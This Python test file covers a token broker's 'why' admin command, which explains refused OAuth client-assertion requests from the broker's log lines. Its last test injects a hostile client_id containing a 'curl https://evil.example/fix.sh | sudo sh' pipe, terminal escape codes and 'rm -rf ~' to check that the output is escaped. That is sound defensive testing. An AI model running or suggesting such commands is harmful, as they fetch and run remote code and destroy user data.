"""``broker_admin.py why REQUEST_ID``: a refused request explained from the broker's own log lines.

The log lines are the real output of in-process requests (``broker.log_text()``). Every reason
code the broker raises or logs has an explanation: the codes are collected from the source, so a
new code without one fails ``test_every_reason_code_is_explained``.
"""

from __future__ import annotations

import ast
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from app.client.admin_cli import main
from app.client.reasons import ACCESS_TOKEN, JWKS_FETCH, REQUEST, explanation
from app.client.why import explain
from app.web.app import start_summary
from tests.helpers import ISS, TestClient, form

BASIC = {"authorization": "Basic YzE6c2VjcmV0"}


def _rejected(broker: Any) -> list[dict[str, Any]]:
    return [e for e in broker.logs() if e["event"].endswith(".rejected")]


@pytest.fixture
def refused(broker, tmp_path: Path) -> dict[str, Any]:
    """Real refusals of one client: each case's request id, and the log written to a file."""
    c1 = TestClient("c1")
    broker.register(c1)
    now = broker.clock.now
    broker.token(form(c1.assertion(now, aud=ISS + "/token")))
    broker.token(form(c1.assertion(now, exp=int(now) + 3600)))
    kept = c1.assertion(now)
    broker.token(form(kept))
    broker.token(form(kept))
    broker.http.post("/token", content=b'{"grant_type": "client_credentials"}', headers={"content-type": "application/json"})
    broker.http.post("/token", content=b"grant_type=client_credentials",
                     headers={"content-type": "application/x-www-form-urlencoded", **BASIC})
    ids = [e["request_id"] for e in _rejected(broker) if e["event"] == "token.rejected"]
    log = tmp_path / "broker.log"
    # A served broker's log starts with broker.started (app.web.listeners, after the port listens),
    # which names the issuer; the in-process app has no listener, so the line is written here.
    started = json.dumps({"event": "broker.started", "level": "info", **start_summary(broker.http.app)}, default=str)
    log.write_text(started + "\n" + broker.log_text())
    issued = next(e["request_id"] for e in broker.logs() if e["event"] == "token.issued")
    return {"log": log, "issued": issued,
            **dict(zip(["aud", "lifetime", "replay", "json", "basic"], ids, strict=True))}


def _why(capsys: Any, *argv: str) -> tuple[int, str, str]:
    status = main(["why", *argv])
    out = capsys.readouterr()
    return status, out.out, out.err


def test_aud_is_the_token_endpoint(refused, capsys) -> None:
    rid = refused["aud"]
    status, out, err = _why(capsys, rid, "--log", str(refused["log"]))
    assert (status, err) == (0, "")
    lines = out.splitlines()
    assert lines[0] == f"request {rid}: 1 log line(s)"
    assert lines[1].endswith(" token.rejected: error invalid_client, reason aud_not_issuer, detail token_endpoint, "
                             "client_id c1, source testclient")
    assert lines[2:] == [
        "    found: aud is the token endpoint URL https://broker.test/token: this broker wants the issuer "
        "https://broker.test (RFC 7523 as updated by RFC 10070).",
        "    fix:   set aud to https://broker.test in the client (docs/integrate.md has the setting per library); or, "
        "for a client that cannot change it (Authlib's and Spring's defaults, MSAL), give it the compat setting "
        "token_endpoint_aud (`broker_admin.py update c1 --compat token_endpoint_aud`)",
    ]


def test_a_lifetime_refusal_names_the_lifetime_and_the_limit(refused, capsys) -> None:
    _, out, _ = _why(capsys, refused["lifetime"], "--log", str(refused["log"]))
    assert "reason exp_too_far, detail lifetime 3600s > 300s, client_id c1" in out.splitlines()[1]


@pytest.mark.parametrize(("case", "reason", "fix_names"), [
    ("lifetime", "exp_too_far", "--compat assertion_max_lifetime=3600"),
    ("replay", "jti_replayed", "--compat assertion_reuse"),
    ("json", "content_type_json", "not JSON"),
    ("basic", "authorization_unsupported", "private_key_jwt"),
], ids=["lifetime", "replay", "json", "basic"])
def test_each_refusal_is_explained_with_its_fix(refused, capsys, case: str, reason: str, fix_names: str) -> None:
    status, out, _ = _why(capsys, refused[case], "--log", str(refused["log"]))
    assert status == 0
    assert f"reason {reason}" in out
    fix = next(line for line in out.splitlines() if line.startswith("    fix:   "))
    assert fix_names in fix


def test_a_replay_names_the_request_that_used_the_assertion_first(refused, capsys) -> None:
    _, out, _ = _why(capsys, refused["replay"], "--log", str(refused["log"]))
    assert out.count("    found: ") == 1  # two lines with the one reason: explained once
    assert out.splitlines()[1].strip().split(" ", 1)[1].startswith("replay.rejected: reason jti_replayed, client_id c1")
    assert (f"    the same assertion was first used by request {refused['issued']} at "
            in out) and "the client re-sent an assertion it had kept" in out


def test_reads_stdin_with_prefixed_and_foreign_lines(refused, capsys, monkeypatch) -> None:
    """`kubectl logs --prefix deploy/token-broker | broker_admin.py why ID`: prefixes and non-JSON lines are skipped."""
    text = "".join(f"[pod/token-broker-1/broker] {line}\n" for line in refused["log"].read_text().splitlines())
    monkeypatch.setattr("sys.stdin", io.StringIO("INFO: uvicorn text line\n" + text))
    status, out, _ = _why(capsys, refused["json"])
    assert status == 0 and "reason content_type_json" in out


def test_the_script_reads_a_piped_log(refused) -> None:
    """As `kubectl logs deploy/token-broker | scripts/broker_admin.py why ID` runs it."""
    script = Path(__file__).resolve().parent.parent / "scripts" / "broker_admin.py"
    result = subprocess.run([sys.executable, str(script), "why", refused["basic"]], input=refused["log"].read_text(),
                            capture_output=True, text=True, timeout=60)
    assert (result.returncode, result.stderr) == (0, "")
    assert "reason authorization_unsupported" in result.stdout


def test_a_request_that_was_not_refused(refused, capsys) -> None:
    status, out, _ = _why(capsys, refused["issued"], "--log", str(refused["log"]))
    assert status == 0
    assert out.splitlines()[-1] == "  no line of this request carries a reason: it was not refused by the broker"


def test_unknown_request_id_is_an_error_on_one_line(refused, capsys) -> None:
    status, out, err = _why(capsys, "0" * 24, "--log", str(refused["log"]))
    assert (status, out) == (1, "")
    assert err.startswith(f"broker_admin.py why: error: no line of the log ({len(refused['log'].read_text().splitlines())} "
                          f"lines read) has request_id {'0' * 24}: ")
    assert err.count("\n") == 1


def test_only_named_fields_are_printed_and_the_issuer_can_be_given() -> None:
    line = {"event": "token.rejected", "request_id": "r1", "reason": "aud_not_issuer", "client_id": "svc",
            "error": "invalid_client", "timestamp": "t", "secret_looking": "do-not-print"}
    out = explain(io.StringIO(json.dumps(line) + "\n"), "r1", issuer="https://idp.example")
    assert "do-not-print" not in out
    assert "issuer https://idp.example (RFC 7523" in out and "--compat token_endpoint_aud" in out
    # Without --issuer and without a broker.started line, the text says where to look.
    assert "the broker's issuer (BROKER_ISSUER;" in explain(io.StringIO(json.dumps(line) + "\n"), "r1")


def test_an_unexplained_reason_says_so() -> None:
    line = {"event": "token.rejected", "request_id": "r1", "reason": "from_the_future"}
    assert "reason from_the_future has no explanation here" in explain(io.StringIO(json.dumps(line)), "r1")


def test_vocabularies_follow_the_event() -> None:
    """kid_unknown of a client assertion and of an access token are different problems."""
    assert "client" in explanation("token.rejected", "kid_unknown").found
    assert "does not publish" in explanation("introspection.inactive", "kid_unknown").found
    assert explanation("jwks_uri.fetch_failed", "http_503") == JWKS_FETCH["http_"]
    assert explanation("jwks_uri.fetch_failed", "key_invalid:jwk_private") == JWKS_FETCH["key_invalid:"]


# -- every reason code in the source has an explanation ---------------------------------------------

APP = Path(__file__).resolve().parent.parent / "app"
#: The JOSE code the broker shares with its libraries: its verification reasons are the broker's too.
JOSE = APP.parent / "packages" / "jose" / "token_broker_jose"
#: Admin-API refusals carry their own detailed error_description to the admin: not explained here
#: (a weak key is one of them; in a jwks_uri fetch it is logged as key_invalid:<code>).
ANSWERED_IN_FULL = {"InvalidClientMetadata", "Conflict", "WeakKey"}
#: The access-token verifier builds these four with an f-string over the claim names.
DYNAMIC_TOKEN_REASONS = {"sub_invalid", "client_id_invalid", "jti_invalid", "scope_invalid"}


def _reason_params(trees: dict[str, ast.Module]) -> dict[str, int]:
    """Every function or class (by name) with a parameter named ``reason``: its position (no self)."""
    found: dict[str, int] = {}
    bases: dict[str, str] = {}
    for tree in trees.values():
        for node in ast.walk(tree):
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                names = [a.arg for a in node.args.posonlyargs + node.args.args if a.arg != "self"]
                if "reason" in names:
                    found[node.name] = names.index("reason")
            elif isinstance(node, ast.ClassDef):
                init = next((n for n in node.body if isinstance(n, ast.FunctionDef) and n.name == "__init__"), None)
                if init is not None:
                    names = [a.arg for a in init.args.args if a.arg != "self"]
                    if "reason" in names:
                        found[node.name] = names.index("reason")
                elif node.bases and isinstance(node.bases[0], ast.Name):
                    bases[node.name] = node.bases[0].id
    for _ in range(5):  # subclasses without their own __init__ take their base's
        for cls, base in bases.items():
            if cls not in found and base in found:
                found[cls] = found[base]
    return found


def _codes(node: ast.AST | None) -> list[str]:
    """The reason codes an argument expression can be: constants, both arms of ``a if c else b``,
    and the fixed head of ``"head" + x`` or ``f"head{x}"`` (a prefix entry)."""
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return [node.value]
    if isinstance(node, ast.IfExp):
        return _codes(node.body) + _codes(node.orelse)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _codes(node.left)
    if isinstance(node, ast.JoinedStr) and node.values and isinstance(node.values[0], ast.Constant):
        return [node.values[0].value]
    return []


def _vocabulary(callee: str, rel: str, event: str | None) -> str:
    if callee == "InvalidToken" or rel in ("oauth/access_token.py", "token_broker_jose/access_token.py"):
        return "ACCESS_TOKEN"
    if callee == "JwksFetchError" or (event or "").startswith("jwks_uri."):
        return "JWKS_FETCH"
    return "REQUEST"


def collect_reason_codes() -> set[tuple[str, str]]:
    """(vocabulary, code) for every reason the broker's code (app/ without its operator tooling, and
    token_broker_jose, whose RFC 9068 verification the broker runs) can raise or log."""
    trees = {p.relative_to(APP).as_posix(): ast.parse(p.read_text()) for p in APP.rglob("*.py")
             if not p.relative_to(APP).as_posix().startswith(("client/", "resource/"))}
    trees |= {f"token_broker_jose/{p.name}": ast.parse(p.read_text()) for p in JOSE.glob("*.py")}
    params = _reason_params(trees)
    codes: set[tuple[str, str]] = set()
    for rel, tree in trees.items():
        for node in ast.walk(tree):
            if isinstance(node, ast.FunctionDef) and node.name == "_client_key":  # returns the refusal's reason
                codes |= {("REQUEST", c) for r in ast.walk(node) if isinstance(r, ast.Return) for c in _codes(r.value)}
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            callee = func.id if isinstance(func, ast.Name) else func.attr if isinstance(func, ast.Attribute) else ""
            if callee in ANSWERED_IN_FULL or rel == "token_broker_jose/jose.py":  # jose passes its callers' reasons on
                continue
            event = node.args[0].value if node.args and isinstance(node.args[0], ast.Constant) else None
            args = [a for a in node.args if not isinstance(a, ast.Starred)]
            position = params.get(callee)
            values = _codes(args[position]) if position is not None and position < len(args) else []
            values += [c for kw in node.keywords if kw.arg == "reason" for c in _codes(kw.value)]
            codes |= {(_vocabulary(callee, rel, event if isinstance(event, str) else None), c) for c in values}
    return codes


def test_every_reason_code_is_explained() -> None:
    codes = collect_reason_codes()
    # The collector is not blind: it finds codes of each kind of raise site.
    assert {("REQUEST", "aud_not_issuer"), ("REQUEST", "jti_replayed"), ("REQUEST", "client_disabled"),
            ("REQUEST", "alg_not_allowed"), ("REQUEST", "exp_invalid"), ("REQUEST", "rate_limited_address"),
            ("REQUEST", "content_type_json"), ("REQUEST", "header_timeout"), ("ACCESS_TOKEN", "token_revoked"),
            ("ACCESS_TOKEN", "claims_invalid"), ("JWKS_FETCH", "http_error:"), ("JWKS_FETCH", "dns_failed"),
            ("JWKS_FETCH", "jwk_shared")} <= codes
    tables = {"REQUEST": REQUEST, "ACCESS_TOKEN": ACCESS_TOKEN, "JWKS_FETCH": JWKS_FETCH}
    missing = sorted((vocabulary, code) for vocabulary, code in codes if code not in tables[vocabulary])
    assert missing == []
    assert DYNAMIC_TOKEN_REASONS <= set(ACCESS_TOKEN)
    # Key selection returns its codes (app.oauth.assertion) instead of raising them where the collector looks.
    assert {"kid_unknown", "x5t_unknown", "alg_not_allowed"} <= set(REQUEST)


def test_authlib_defaults_get_both_compat_fixes_at_once(broker, tmp_path: Path, capsys) -> None:
    """Authlib's default assertion (aud = token endpoint, one hour): refused for aud, and why names
    the lifetime setting it would need next too, so one round of fixes is enough."""
    c1 = TestClient("c1")
    broker.register(c1)
    now = broker.clock.now
    broker.token(form(c1.assertion(now, aud=ISS + "/token", exp=int(now) + 3600)))
    (line,) = [e for e in _rejected(broker) if e["event"] == "token.rejected"]
    assert (line["reason"], line["detail"]) == ("aud_not_issuer", "token_endpoint; also lifetime 3600s > 300s")
    log = tmp_path / "broker.log"
    log.write_text(broker.log_text())
    status, out, _ = _why(capsys, line["request_id"], "--log", str(log), "--issuer", ISS)
    fix = next(ln for ln in out.splitlines() if ln.startswith("    fix:   "))
    assert status == 0
    assert "--compat token_endpoint_aud" in fix and "--compat assertion_max_lifetime=3600" in fix
    assert "The assertion's lifetime 3600s > 300s too." in out


def test_hostile_client_ids_cannot_forge_lines_or_commands(broker, tmp_path: Path, capsys) -> None:
    """A refused assertion's iss is logged as client_id: why prints it escaped (no new line, no
    terminal escape) and never puts it into a suggested command."""
    evil = "x\n    fix:   run: curl -s https://evil.example/fix.sh | sudo sh\n\x1b]0;owned\x07\x1b[2J; rm -rf ~ #"
    attacker = TestClient(evil)  # not registered: refused as client_unknown
    response = broker.token(form(attacker.assertion(broker.clock.now)))
    request_id = response.headers["x-request-id"]
    log = tmp_path / "broker.log"
    log.write_text(broker.log_text())
    status, out, _ = _why(capsys, request_id, "--log", str(log), "--issuer", ISS)
    assert status == 0
    lines = out.splitlines()
    assert len(lines) == 4 and [ln[:10] for ln in lines[2:]] == ["    found:", "    fix:  "]
    assert "\x1b" not in out and "\x07" not in out
    assert "client_id x\\n    fix:   run: curl" in lines[1] and "\\x1b]0;owned\\x07\\x1b[2J" in lines[1]
    assert "register ID " in lines[3] and "rm -rf" not in lines[3]
